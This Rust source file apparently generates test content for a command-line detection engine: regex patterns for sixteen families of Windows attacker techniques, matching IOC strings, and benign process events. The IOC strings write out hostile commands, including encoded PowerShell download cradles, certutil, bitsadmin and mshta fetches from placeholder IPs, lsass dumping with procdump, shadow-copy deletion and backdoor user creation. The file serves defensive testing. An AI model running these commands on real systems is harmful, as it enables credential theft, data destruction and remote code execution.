//! Regex-only command-line content: sixteen families of real-world
//! attacker command lines, their matching IOCs, and benign command lines.

use changuard_format::Action;
use changuard_format::build::{ChannelSpec, CriterionSpec, InstanceSpec};
use changuard_format::schema::PROCESS_CREATE;

use crate::mixed::{IMAGES, process_event};
use crate::{OwnedEvent, Rng, WORDS, any, chunk_by, pack_by, re, set};

pub(super) fn re_cs(p: impl Into<String>) -> CriterionSpec {
    CriterionSpec::Regex {
        pattern: p.into(),
        case_insensitive: false,
    }
}

/// Families of regex-only command-line patterns in
/// [`regex_only_command_line_specs`].
pub const CMDLINE_FAMILIES: usize = 16;

/// The variation word of command-line pattern `k` (independent of the set
/// size, so events built for small `k` match at every size).
pub fn cmdline_word(k: usize) -> String {
    format!("{}{}", WORDS[(k * 7 + 3) % WORDS.len()], k)
}

/// Standard base64 (with padding) of `b`.
pub fn base64(b: &[u8]) -> String {
    const A: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut s = String::with_capacity(b.len().div_ceil(3) * 4);
    for c in b.chunks(3) {
        let n = (u32::from(c[0]) << 16)
            | (u32::from(*c.get(1).unwrap_or(&0)) << 8)
            | u32::from(*c.get(2).unwrap_or(&0));
        for j in 0..4 {
            if j <= c.len() {
                s.push(A[(n >> (18 - 6 * j)) as usize & 63] as char);
            } else {
                s.push('=');
            }
        }
    }
    s
}

/// Base64 of `s` as UTF-16LE (what `powershell -EncodedCommand` takes).
pub fn ps_encode(s: &str) -> String {
    let b: Vec<u8> = s.encode_utf16().flat_map(u16::to_le_bytes).collect();
    base64(&b)
}

/// The stable base64 prefix of any encoded command starting with `w`: the
/// complete 4-character groups of `ps_encode(w)` (no padding).
fn ps_prefix(w: &str) -> String {
    let n = w.encode_utf16().count() * 2 / 3 * 4;
    ps_encode(w)[..n].to_string()
}

/// Pattern `k` of the command-line set: `(pattern, case_insensitive)`.
/// Families (`k % 16`), each varied by a word or a bound so every pattern is
/// distinct; 11 of 16 case-insensitive; families 1 and 14 have no required
/// literal at all (always list), family 13 only the weak `http` shared by the
/// whole family, several case-insensitive ones are cut by `s`/`k` (Unicode
/// folding) down to their variation word.
pub fn cmdline_pattern(k: usize) -> (String, bool) {
    let (p, ci) = cmdline_pattern_unicode_ws(k);
    // ASCII whitespace: Unicode `\s` (U+0085, U+00A0, U+2000.., U+3000)
    // multiplies the DFA states of every `.*`-bearing pattern past the
    // format's per-file DFA cap; Vectorscan's `\s` (no UCP) is ASCII too.
    (ascii_ws(&p), ci)
}

/// `\s` -> `[ \t]` (inside a class: ` \t`); other escapes unchanged.
fn ascii_ws(p: &str) -> String {
    let mut out = String::with_capacity(p.len() + 16);
    let (mut chars, mut in_class) = (p.chars(), false);
    while let Some(c) = chars.next() {
        match c {
            '\\' => match chars.next() {
                Some('s') if in_class => out.push_str(" \\t"),
                Some('s') => out.push_str("[ \\t]"),
                Some(d) => {
                    out.push('\\');
                    out.push(d);
                }
                None => out.push('\\'),
            },
            '[' => {
                in_class = true;
                out.push(c);
            }
            ']' => {
                in_class = false;
                out.push(c);
            }
            _ => out.push(c),
        }
    }
    out
}

/// Command-line patterns per channel file: their DFAs average ≈ 100 KB
/// (Unicode `.` after a case-insensitive prefix), so 50 stay well under the
/// format's 8 MB of DFAs per file.
pub const CMDLINE_PER_CHANNEL: usize = 50;

fn cmdline_pattern_unicode_ws(k: usize) -> (String, bool) {
    let w = cmdline_word(k);
    let i = k / CMDLINE_FAMILIES;
    match k % CMDLINE_FAMILIES {
        0 => (
            format!(
                r"powershell(\.exe)?\s.*\s-e(nc|ncodedcommand)?\s+{}[A-Za-z0-9+/=]{{20,}}",
                ps_prefix(&format!("iex {w}"))
            ),
            true,
        ),
        1 => (
            format!(
                r#"\s[-/][eE][a-zA-Z]*\s+(SQBFAFgA|aQBlAHgA|SQBuAHYAbwBrAGUA|UwB0AGEAcgB0AC0AUAByAG8AYwBlAHMAcwA)[A-Za-z0-9+/]{{{},}}={{0,2}}(\s|"|$)"#,
                20 + i
            ),
            false,
        ),
        2 => (
            format!(r"certutil(\.exe)?\s.*-urlcache\s.*https?://[^\s/]+/[^\s]*{w}"),
            true,
        ),
        3 => (
            format!(r"rundll32(\.exe)?\s+[^,]*\\{w}\.dll,\s*#?[0-9]+"),
            true,
        ),
        4 => (
            format!(r#"reg(\.exe)?\s+add\s+.*\\currentversion\\run(once)?\s.*/v\s+"?{w}"#),
            true,
        ),
        5 => (
            format!(r#"schtasks(\.exe)?\s+/create\s.*/tn\s+"?[^"]*{w}.*/tr\s"#),
            true,
        ),
        6 => (
            format!(r"vssadmin(\.exe)?\s+delete\s+shadows\s+/all\s+/quiet.*{w}"),
            true,
        ),
        7 => (
            format!(r"wmic(\.exe)?\s.*process\s+call\s+create\s+.*{w}"),
            true,
        ),
        8 => (
            format!(r"bitsadmin(\.exe)?\s+/transfer\s+{w}\s.*https?://"),
            false,
        ),
        9 => (
            format!(r#"mshta(\.exe)?\s+"?(https?|javascript|vbscript):.*{w}"#),
            false,
        ),
        10 => (
            format!(r"net1?(\.exe)?\s+(user|localgroup\s+administrators)\s+{w}\s.*/add"),
            true,
        ),
        11 => (
            format!(r"\\appdata\\(local|roaming)\\temp\\{w}\.(exe|ps1|bat|vbs)"),
            true,
        ),
        12 => (
            format!(r"regsvr32(\.exe)?\s+/s\s+/n\s+/u\s+/i:https?://[^\s]*{w}"),
            false,
        ),
        13 => {
            let lo = 1 + i % 16;
            let hi = lo + 1 + i / 16;
            (
                format!(
                    r#"(iwr|irm|curl|wget)(\.exe)?\s.*https?://[0-9]{{1,3}}(\.[0-9]{{1,3}}){{3}}(:[0-9]+)?/[a-z0-9_-]{{{lo},{hi}}}\.(ps1|exe|hta)(\s|"|$)"#
                ),
                true,
            )
        }
        14 => (
            format!(
                r"\s-w(indowstyle)?\s+h(idden)?\s+-(nop|noprofile)\s+-e(nc|ncodedcommand)?\s+[A-Za-z0-9+/=]{{{},}}",
                40 + i
            ),
            true,
        ),
        _ => (
            format!(r"procdump(64)?(\.exe)?\s.*-ma\s+(lsass(\.exe)?|[0-9]+)\s+.*{w}\.dmp"),
            false,
        ),
    }
}

/// A command line (fragment) that matches pattern `k` of
/// [`cmdline_pattern`] (and typically few others).
pub fn cmdline_ioc(k: usize) -> String {
    let w = cmdline_word(k);
    let i = k / CMDLINE_FAMILIES;
    match k % CMDLINE_FAMILIES {
        0 => format!(
            "powershell.exe -NoProfile -enc {}",
            ps_encode(&format!(
                "iex {w} (New-Object Net.WebClient).DownloadString('http://203.0.113.7/a')"
            ))
        ),
        1 => format!(
            "-e {}",
            ps_encode(&"Start-Process calc; ".repeat((20 + i).div_ceil(40) + 1))
        ),
        2 => format!(
            r"certutil.exe -urlcache -split -f http://203.0.113.7/dl/{w}.exe C:\Users\Public\{w}.exe"
        ),
        3 => format!(r"rundll32.exe C:\ProgramData\{w}.dll,#1"),
        4 => format!(
            r#"reg.exe add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v {w} /t REG_SZ /d "C:\Users\Public\{w}.exe" /f"#
        ),
        5 => format!(
            r#"schtasks /create /sc minute /mo 30 /tn "\Microsoft\{w}" /tr "C:\Users\Public\{w}.exe" /f"#
        ),
        6 => format!("cmd.exe /c vssadmin delete shadows /all /quiet & {w}.exe --lock"),
        7 => format!(r#"wmic /node:10.0.0.5 process call create "C:\Windows\Temp\{w}.exe""#),
        8 => format!(
            r"bitsadmin /transfer {w} /download /priority high http://198.51.100.9/{w}.bin C:\Temp\{w}.bin"
        ),
        9 => format!("mshta.exe http://198.51.100.23/{w}.hta"),
        10 => format!("net user {w} P@ssw0rd! /add"),
        11 => format!(r"C:\Users\Олег\AppData\Local\Temp\{w}.exe"),
        12 => format!("regsvr32 /s /n /u /i:http://203.0.113.50/{w}.sct scrobj.dll"),
        13 => format!(
            "curl.exe -s http://192.0.2.44:8080/{}.ps1 -o a.ps1",
            "p".repeat(1 + i % 16)
        ),
        14 => format!(
            "-w hidden -nop -enc {}",
            "SQBFAFgA".repeat((40 + i).div_ceil(8) + 1)
        ),
        _ => format!(r"procdump64.exe -accepteula -ma lsass.exe C:\Windows\Temp\{w}.dmp"),
    }
}

/// `n` regex-only ProcessCreate instances, all on `command_line`
/// ([`cmdline_pattern`]), cut into files of [`CMDLINE_PER_CHANNEL`] in
/// pattern order (so every file holds every family). Returns the specs and
/// the pattern strings (`(?i)`-prefixed when case-insensitive).
pub fn regex_only_command_line_specs(n: usize) -> (Vec<ChannelSpec>, Vec<String>) {
    let (insts, pats) = command_line_instances(n);
    (chunk_by(insts, CMDLINE_PER_CHANNEL), pats)
}

/// The same content as [`regex_only_command_line_specs`], laid out by the
/// toolchain's packer (`pack_by_family`, at most [`CMDLINE_PER_CHANNEL`]
/// instances and the format's DFA budget per file): each family in as few
/// files as the budgets allow.
pub fn regex_only_command_line_packed_specs(n: usize) -> (Vec<ChannelSpec>, Vec<String>) {
    let (insts, pats) = command_line_instances(n);
    (pack_by(insts, CMDLINE_PER_CHANNEL), pats)
}

/// The instances and patterns of [`regex_only_command_line_specs`].
fn command_line_instances(n: usize) -> (Vec<InstanceSpec>, Vec<String>) {
    let pc = &PROCESS_CREATE;
    let mut pats = Vec::with_capacity(n);
    let mut insts = Vec::with_capacity(n);
    for k in 0..n {
        let (p, ci) = cmdline_pattern(k);
        let mut c = any(pc);
        set(
            pc,
            &mut c,
            "command_line",
            if ci { re(p.clone()) } else { re_cs(p.clone()) },
        );
        pats.push(if ci { format!("(?i){p}") } else { p });
        insts.push(InstanceSpec {
            also: Vec::new(),
            unless: Vec::new(),
            metadata: Default::default(),
            id: k as u32 + 1,
            template: pc.id,
            action: Action::Report,
            criteria: c,
        });
    }
    (insts, pats)
}

const FEATURES: &[&str] = &[
    "AutofillServerCommunication",
    "BackForwardCache",
    "CalculateNativeWinOcclusion",
    "DocumentPictureInPictureAPI",
    "EnableTLS13EarlyData",
    "HardwareMediaKeyHandling",
    "LensOverlay",
    "MediaSessionService",
    "PartitionedCookies",
    "SpareRendererForSitePerProcess",
    "ThirdPartyStoragePartitioning",
    "WebRtcHideLocalIpsWithMdns",
];

/// `n` long, realistic ProcessCreate events for the command-line set
/// (≈300–3,000-byte command lines: browser renderers with feature lists,
/// PowerShell with base64 blobs, Java class paths, Office and installers
/// with Cyrillic paths). Every 4th event also carries one IOC command line
/// ([`cmdline_ioc`] of a pattern `k < 100`, so it matches at every size).
pub fn cmdline_events(n: usize) -> Vec<OwnedEvent> {
    let mut r = Rng::new(4242);
    (0..n)
        .map(|k| {
            let image = r.pick(IMAGES).to_string();
            let mut cmd = match k % 6 {
                0 => {
                    let mut f = String::new();
                    for _ in 0..(4 + r.below(20)) {
                        let feat: &&str = r.pick(FEATURES);
                        f.push_str(feat);
                        f.push(',');
                    }
                    format!(
                        r#""C:\Program Files\Google\Chrome\Application\chrome.exe" --type=renderer --string-annotations --video-capture-use-gpu-memory-buffer --lang=ru --device-scale-factor=1.25 --num-raster-threads=2 --enable-main-frame-before-activation --renderer-client-id={} --time-ticks-at-unix-epoch=-{} --launch-time-ticks={} --enable-features={f} --disable-features=Translate --field-trial-handle={},i,{},{},262144 --variations-seed-version=20241120-010203.456000 /prefetch:1"#,
                        r.below(400),
                        r.next_u64() % 10_000_000_000_000,
                        r.next_u64() % 100_000_000_000,
                        r.below(9000),
                        r.next_u64(),
                        r.next_u64()
                    )
                }
                1 => {
                    let script = format!(
                        "$ErrorActionPreference='Stop'; $p = Join-Path $env:ProgramData 'Contoso\\Agent'; Get-ChildItem -Path $p -Filter *.log | Where-Object {{ $_.LastWriteTime -lt (Get-Date).AddDays(-{}) }} | Remove-Item -Force; Write-Output 'очистка завершена'",
                        r.below(30)
                    );
                    let script = script.repeat(1 + r.below(2) as usize);
                    format!(
                        r#""C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe" -NoProfile -NonInteractive -ExecutionPolicy Bypass -EncodedCommand {}"#,
                        ps_encode(&script)
                    )
                }
                2 => {
                    let mut cp = String::new();
                    for j in 0..(10 + r.below(30)) {
                        cp.push_str(&format!(
                            r"C:\Users\Олег\.m2\repository\org\{}\{}-core\{}.{}.{}\{}-core-{}.{}.{}.jar;",
                            r.pick(WORDS),
                            r.pick(WORDS),
                            j % 7,
                            r.below(20),
                            r.below(10),
                            r.pick(WORDS),
                            j % 7,
                            r.below(20),
                            r.below(10)
                        ));
                    }
                    format!(
                        r#""C:\Program Files\Eclipse Adoptium\jdk-21.0.5.11-hotspot\bin\java.exe" -Xms256m -Xmx{}m -Dfile.encoding=UTF-8 -Duser.language=ru -cp "{cp}" com.contoso.service.Main --config "C:\ProgramData\Contoso\service.yaml""#,
                        512 * (1 + r.below(8))
                    )
                }
                3 => format!(
                    r#""C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE" /n "C:\Users\Олег\Documents\Отчёт за {} квартал — финальная версия ({}).docx" /o "" /dde /automation -Embedding -ServerName:Word.Application.{} --profile-dir="C:\Users\Олег\AppData\Roaming\Microsoft\Word\STARTUP""#,
                    1 + r.below(4),
                    r.below(100),
                    r.next_u64() % 100_000
                ),
                4 => format!(
                    r#""C:\Windows\System32\msiexec.exe" /i "C:\Users\Олег\Downloads\установка_агента_{}.msi" /qn /norestart /l*v "C:\Windows\Temp\msi_{:08x}.log" TRANSFORMS="C:\Users\Олег\Downloads\ru-RU.mst" INSTALLDIR="C:\Program Files\Contoso Agent" SERVERURL="https://updates.contoso.example/agent/v{}/" ALLUSERS=1 REBOOT=ReallySuppress"#,
                    r.below(1000),
                    r.next_u64() as u32,
                    r.below(20)
                ),
                _ => format!(
                    r#""C:\Users\Олег\AppData\Local\Programs\Microsoft VS Code\Code.exe" --type=utility --utility-sub-type=node.mojom.NodeService --lang=ru --service-sandbox-type=none --user-data-dir="C:\Users\Олег\AppData\Roaming\Code" --standard-schemes=vscode-webview,vscode-file --secure-schemes=vscode-webview,vscode-file --cors-schemes=vscode-webview,vscode-file --fetch-schemes=vscode-webview,vscode-file --code-cache-schemes=vscode-webview,vscode-file --mojo-platform-channel-handle={} --field-trial-handle={},i,{},{},262144 /prefetch:8 https://marketplace.visualstudio.com/items?itemName=contoso.ext{}"#,
                    r.below(5000),
                    r.below(9000),
                    r.next_u64(),
                    r.next_u64(),
                    r.below(100)
                ),
            };
            if k % 4 == 3 {
                // One IOC per such event; spread over the families.
                let ioc = cmdline_ioc((k * 5 + k / 16) % 100);
                cmd = format!(r"C:\Windows\System32\cmd.exe /c {ioc} & {cmd}");
            }
            process_event(&mut r, image, cmd)
        })
        .collect()
}
